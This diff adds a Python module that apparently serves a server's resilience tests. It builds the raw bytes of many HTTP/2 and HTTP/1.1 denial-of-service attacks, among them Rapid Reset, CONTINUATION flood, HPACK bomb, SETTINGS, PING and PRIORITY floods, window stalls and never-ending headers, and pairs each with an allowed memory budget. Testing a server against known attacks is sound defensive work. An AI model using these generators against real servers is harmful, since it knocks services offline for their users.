@@ -1,0 +1,333 @@
+"""The attacks: what one connection of each sends, as a generator of bytes."""
+
+from __future__ import annotations
+
+import itertools
+import math
+import os
+import struct
+from collections.abc import Callable, Iterator, Mapping
+from typing import TypeAlias
+
+import attrs
+
+from abusing.wire import (
+    END_HEADERS,
+    END_STREAM,
+    INITIAL_WINDOW_SIZE,
+    LARGEST_FRAME,
+    LARGEST_WINDOW,
+    Kind,
+    Target,
+    block,
+    frame,
+    reset,
+    settings,
+    window_update,
+)
+
+MEGABYTE = 10**6
+
+ANSWER = 64 * MEGABYTE
+"""Bytes of each of the large answers that wait."""
+ANSWERS = 16
+"""How many of them wait; it bounds what the attacks that pull them can take."""
+
+Batch: TypeAlias = tuple[bytes, int]
+"""Bytes that are sent at once, and how many frames (or requests) they are."""
+
+
+@attrs.frozen(kw_only=True)
+class Attack:
+    """What is done to a server, and what that may cost it."""
+
+    name: str
+    script: Callable[[Target], Iterator[Batch]]
+    """What one connection sends."""
+    connections: int = 4
+    """As many at the same time; one that ends is followed by another."""
+    rest_after: float = math.inf
+    """Seconds for which one that has sent everything is kept open."""
+    reads: bool = True
+    text: bool = False
+    """Whether this is HTTP/1.1, or nothing at all, rather than HTTP/2."""
+    handshake: bool = True
+    """Whether a TLS handshake is completed first."""
+    settings: Mapping[int, int] = attrs.field(factory=dict)
+    memory: int = 100 * MEGABYTE
+    """Bytes by which the server may grow meanwhile."""
+    memory_grpc: int | None = None
+    """The same for gRPC, where that is another figure."""
+    large_answers: bool = False
+    rest: bool | None = None
+    """Whether it is for REST only, or for gRPC only."""
+
+
+def _streams() -> Iterator[int]:
+    return itertools.count(1, 2)
+
+
+def nothing(_: Target) -> Iterator[Batch]:
+    """No attack: what everything else is compared with."""
+    yield from ()
+
+
+def rapid_reset(target: Target) -> Iterator[Batch]:
+    """Calls that are held, each given up at once (CVE-2023-44487)."""
+    streams = _streams()
+    while True:
+        yield (
+            b"".join(
+                target.call(stream, "PullTaskIns", target.idle_pull) + reset(stream)
+                for stream in itertools.islice(streams, 50)
+            ),
+            150,
+        )
+
+
+def endless_headers(target: Target) -> Iterator[Batch]:
+    """A head that goes on in CONTINUATION frames without end (CVE-2024-27316)."""
+    fields = block(target.fields("Ping"))
+    yield frame(Kind.HEADERS, END_STREAM, 1, fields), 1
+    more = frame(Kind.CONTINUATION, 0, 1, block([(b"x", bytes(1000))]))
+    while True:
+        yield more * 50, 50
+
+
+def compressed_headers(target: Target) -> Iterator[Batch]:
+    """Heads of 16 KB that unpack to 64 MB: one field of 4 KB, named again and again."""
+    known = block(target.fields("Ping"))
+    name, value = b"x", b"y" * 4000
+    literal = b"\x40" + bytes([len(name)]) + name + _hpack_length(len(value)) + value
+    again = b"\xbe" * (LARGEST_FRAME - 100)
+    for stream in _streams():
+        first = frame(Kind.HEADERS, END_STREAM, stream, known + literal)
+        yield first + frame(Kind.CONTINUATION, END_HEADERS, stream, again), 2
+
+
+def _hpack_length(length: int) -> bytes:
+    # RFC 7541, 5.1: an integer with a prefix of 7 bits.
+    encoded, rest = bytearray([0x7F]), length - 0x7F
+    while rest > 0x7F:
+        encoded.append(rest & 0x7F | 0x80)
+        rest >>= 7
+    encoded.append(rest)
+    return bytes(encoded)
+
+
+def large_header(target: Target) -> Iterator[Batch]:
+    """Heads with one field of 1 MB."""
+    whole = block([*target.fields("Ping"), (b"x", bytes(MEGABYTE))])
+    pieces = [whole[start : start + LARGEST_FRAME] for start in range(0, len(whole), LARGEST_FRAME)]
+    for stream in _streams():
+        frames = [frame(Kind.HEADERS, END_STREAM, stream, pieces[0])]
+        frames += [frame(Kind.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
+        frames += [frame(Kind.CONTINUATION, END_HEADERS, stream, pieces[-1])]
+        yield b"".join(frames), len(frames)
+
+
+def settings_flood(_: Target) -> Iterator[Batch]:
+    """SETTINGS, each of which has to be acknowledged."""
+    values = itertools.cycle([65_535, 65_534])
+    while True:
+        frames = b"".join(settings({INITIAL_WINDOW_SIZE: next(values)}) for _ in range(200))
+        yield frames, 200
+
+
+def ping_flood(_: Target) -> Iterator[Batch]:
+    """PING, each of which has to be answered."""
+    while True:
+        yield frame(Kind.PING, 0, 0, b"pingping") * 200, 200
+
+
+def zero_window(target: Target) -> Iterator[Batch]:
+    """Pulls of large answers, with no room to send them into."""
+    calls = [target.call(stream, "PullTaskIns", target.pull) for stream in _first_streams()]
+    yield b"".join(calls), 2 * len(calls)
+
+
+def tiny_windows(target: Target) -> Iterator[Batch]:
+    """Pulls of large answers, let through byte by byte."""
+    yield from zero_window(target)
+    updates = [window_update(stream, 1) for stream in _first_streams()]
+    while True:
+        yield b"".join(updates), len(updates)
+
+
+def _first_streams() -> range:
+    return range(1, 2 * ANSWERS, 2)
+
+
+def empty_data(target: Target) -> Iterator[Batch]:
+    """A body of DATA frames with nothing in them (CVE-2019-9518)."""
+    yield frame(Kind.HEADERS, END_HEADERS, 1, block(target.fields("Ping"))), 1
+    while True:
+        yield frame(Kind.DATA, 0, 1, b"") * 200, 200
+
+
+def priority_flood(_: Target) -> Iterator[Batch]:
+    """PRIORITY, for streams that are and that are not, in ever new orders (CVE-2019-9513)."""
+    for start in itertools.count(1, 400):
+        frames = [
+            frame(Kind.PRIORITY, 0, stream, struct.pack("!IB", max(0, stream - 2), stream % 256))
+            for stream in range(start, start + 400, 2)
+        ]
+        yield b"".join(frames), len(frames)
+
+
+def half_requests(target: Target) -> Iterator[Batch]:
+    """Ever more calls whose bodies have begun and never end."""
+    fields = block(target.fields("PushTaskRes"))
+    body = struct.pack("!BI", 0, 512 * 2**20) + b"\x0a"
+    streams = _streams()
+    while True:
+        chosen = list(itertools.islice(streams, 50))
+        frames = [
+            frame(Kind.HEADERS, END_HEADERS, stream, fields) + frame(Kind.DATA, 0, stream, body)
+            for stream in chosen
+        ]
+        yield b"".join(frames), 2 * len(frames)
+
+
+def held_pulls(target: Target) -> Iterator[Batch]:
+    """Ever more pulls that are held."""
+    streams = _streams()
+    while True:
+        calls = [
+            target.call(stream, "PullTaskIns", target.idle_pull)
+            for stream in itertools.islice(streams, 50)
+        ]
+        yield b"".join(calls), 2 * len(calls)
+
+
+def silence(_: Target) -> Iterator[Batch]:
+    """Connections that say nothing."""
+    yield from ()
+
+
+def half_a_hello(target: Target) -> Iterator[Batch]:
+    """Connections that begin with half of what comes first, and no more."""
+    if target.tls is None:
+        yield (b"POST /api/v0/fl" if target.rest else b"PRI * HT"), 1
+    else:
+        yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32), 1
+
+
+def noise(_: Target) -> Iterator[Batch]:
+    """Random bytes instead of a preface."""
+    while True:
+        yield os.urandom(1000), 1
+
+
+def strange_first_lines(target: Target) -> Iterator[Batch]:
+    """Calls whose path or method is not ASCII, and not even UTF-8."""
+    fields = dict(target.fields("Ping"))
+    for name, value in ((b":path", b"/\xff\xfe"), (b":path", b"/\xc3\xa9"), (b":method", b"P\xff")):
+        head = block([*{**fields, name: value}.items()])
+        yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
+
+
+def websocket_upgrade(_: Target) -> Iterator[Batch]:
+    """An upgrade to WebSocket with a byte too many."""
+    head = (
+        b"GET /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\n"
+        b"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: x\r\n\r\n"
+    )
+    yield head + b"x", 1
+
+
+def data_after_answer(target: Target) -> Iterator[Batch]:
+    """A body that goes on after its early answer."""
+    fields = [*target.fields("Ping"), (b"content-length", b"1000000000")]
+    yield frame(Kind.HEADERS, END_HEADERS, 1, block(fields)), 1
+    for _ in range(50):
+        yield frame(Kind.DATA, 0, 1, bytes(100)), 1
+
+
+def connect_without_path(_: Target) -> Iterator[Batch]:
+    """CONNECT, which has no path."""
+    head = block([(b":method", b"CONNECT"), (b":authority", b"localhost")])
+    yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
+
+
+def upgrade_to_http2(_: Target) -> Iterator[Batch]:
+    """An upgrade to HTTP/2 of a request whose path is not ASCII."""
+    yield (
+        b"GET /\xe9 HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings\r\n"
+        b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n",
+        1,
+    )
+
+
+def http1_without_end(_: Target) -> Iterator[Batch]:
+    """Header fields of HTTP/1.1 without end."""
+    yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n", 1
+    while True:
+        yield b"x: " + b"y" * 200 + b"\r\n", 1
+
+
+# A gRPC call whose head is too large takes up to 1.2 MB until it ends, and nothing that can be set
+# makes that less: 1,024 streams on each of 4 connections.
+_LARGE_HEADS = 4 * 1200 * MEGABYTE
+
+_ZERO = {INITIAL_WINDOW_SIZE: 0}
+# grpc copies each answer; REST sends what the API made.
+_LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
+_LARGE_GRPC = 2 * ANSWER * ANSWERS + 100 * MEGABYTE
+
+ATTACKS = (
+    Attack(name="none", script=nothing, connections=0),
+    Attack(name="rapid reset", script=rapid_reset),
+    Attack(name="endless headers", script=endless_headers, memory_grpc=250 * MEGABYTE),
+    Attack(name="HPACK bomb", script=compressed_headers, memory_grpc=_LARGE_HEADS),
+    Attack(name="header field of 1 MB", script=large_header, memory_grpc=_LARGE_HEADS),
+    Attack(name="SETTINGS flood", script=settings_flood),
+    Attack(name="SETTINGS flood, reads nothing", script=settings_flood, reads=False),
+    Attack(name="PING flood", script=ping_flood),
+    Attack(name="PING flood, reads nothing", script=ping_flood, reads=False),
+    Attack(name="PRIORITY flood", script=priority_flood),
+    Attack(name="empty DATA flood", script=empty_data),
+    Attack(
+        name=f"{ANSWERS} answers of 64 MB, window 0",
+        script=zero_window,
+        connections=1,
+        settings=_ZERO,
+        large_answers=True,
+        memory=_LARGE,
+        memory_grpc=_LARGE_GRPC,
+    ),
+    Attack(
+        name=f"{ANSWERS} answers of 64 MB, byte by byte",
+        script=tiny_windows,
+        connections=1,
+        settings=_ZERO,
+        large_answers=True,
+        memory=_LARGE,
+        memory_grpc=_LARGE_GRPC,
+    ),
+    Attack(
+        name="streams with half a request",
+        script=half_requests,
+        settings={INITIAL_WINDOW_SIZE: LARGEST_WINDOW},
+    ),
+    Attack(name="streams with a held pull", script=held_pulls),
+    Attack(name="connections without a word", script=silence, connections=500, text=True),
+    Attack(
+        name="half a handshake",
+        script=half_a_hello,
+        connections=500,
+        text=True,
+        handshake=False,
+    ),
+    Attack(name="noise", script=noise, text=True, handshake=False),
+    Attack(name="path or method not UTF-8", script=strange_first_lines, rest_after=0.05),
+    Attack(
+        name="WebSocket upgrade", script=websocket_upgrade, rest_after=0.05, text=True, rest=True
+    ),
+    Attack(
+        name="upgrade to HTTP/2", script=upgrade_to_http2, rest_after=0.05, text=True, rest=True
+    ),
+    Attack(name="DATA after the answer", script=data_after_answer, rest_after=0.05, rest=True),
+    Attack(name="CONNECT without a path", script=connect_without_path, rest_after=0.05),
+    Attack(name="HTTP/1.1 head without end", script=http1_without_end, text=True, rest=True),
+)
